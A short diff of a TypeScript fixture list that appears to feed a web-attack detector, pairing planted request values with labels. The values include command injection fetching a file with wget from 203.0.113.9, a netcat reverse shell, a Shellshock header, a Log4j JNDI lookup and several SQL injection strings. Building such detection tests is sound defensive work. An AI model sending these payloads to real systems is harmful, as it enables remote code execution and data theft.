@@ -19,7 +19,7 @@ export const plants: readonly Plant[] = [
   planted("body", "ip=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.9%2Fa", "wget is run"),
   planted("body", "target=1`nc -e /bin/sh 203.0.113.9 4444`", "netcat is run"),
   planted("agent", "() { :; }; /bin/bash -c 'wget http://203.0.113.9/b -O /tmp/b'", "A function for bash in a header (Shellshock)"),
-  planted("agent", "$" + "{jndi:ldap://203.0.113.9:1389/a}", "Log4j looks something up (CVE-2021-44228)"),
+  planted("agent", "\x24{jndi:ldap://203.0.113.9:1389/a}", "Log4j looks something up (CVE-2021-44228)"),
   planted("cookie", "id=1' UNION ALL SELECT name,pw FROM users-- -", "SQL is put into a request: UNION SELECT"),
   planted("uri", "/item?id=3'%20or%20'1'='1", "SQL is put into a request: what is always true"),
   planted("uri", "/item?id=3%20and%20sleep(5)", "SQL is put into a request: a pause"),
